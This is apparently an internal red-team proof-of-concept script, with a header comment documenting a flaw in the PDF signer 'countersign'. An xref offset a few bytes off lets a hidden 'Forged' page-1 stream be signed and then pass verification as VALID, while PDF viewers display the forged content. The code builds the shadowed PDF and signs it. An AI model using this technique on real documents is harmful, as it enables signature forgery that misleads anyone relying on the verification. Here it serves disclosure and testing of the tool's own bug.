# Red-team finding (2026-12-07, round 2): countersign finds an xref section up to 4 bytes away
# from where `startxref`/`/Prev` says it is (src/pdf/document.rs `section_start`, candidates
# -4..4), and neither `sign` nor `verify` says so. MuPDF and poppler only skip white space
# there: any other miss is "cannot recognize xref format" and they rebuild the xref by
# scanning, where the last `N G obj` in file order wins. A document whose startxref is 2 bytes
# off and that holds an unreferenced later copy of page 1's content is signed as is; the
# signed file copies the off value into its /Prev, so every viewer keeps repairing and shows
# the shadow ("Forged") while countersign's reading of the signed revision is "Page 1" and the
# verdict is VALID, modification level none, no problem listed. pdfsig lists the signature.
# Usage: python3 redteam_offset_tolerance_shadow.py COUNTERSIGN CLASSIC_PDF OUTDIR [DELTA]
#   then: countersign verify OUTDIR/signed.pdf --trust testdata/pki/root-ca.cert.pem --json
#         mutool draw -F txt OUTDIR/signed.pdf 1      (prints "Forged"; pdftotext too)
import subprocess, sys
exe, classic, out = sys.argv[1], sys.argv[2], sys.argv[3]
delta = int(sys.argv[4]) if len(sys.argv) > 4 else 2  # any of -4..-2, 1..4 works
d = open(classic, "rb").read()
i = d.index(b"xref\n0 9")
body = b"BT /F1 24 Tf 72 720 Td (Forged) Tj ET"
shadow = b"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(body), body)
shadowed = d[:i] + shadow + d[i:]
shadowed = shadowed.replace(b"startxref\n753", b"startxref\n%d" % (i + len(shadow) + delta))
open(f"{out}/shadow.pdf", "wb").write(shadowed)
subprocess.run([exe, "sign", f"{out}/shadow.pdf", "-o", f"{out}/signed.pdf"], check=True)
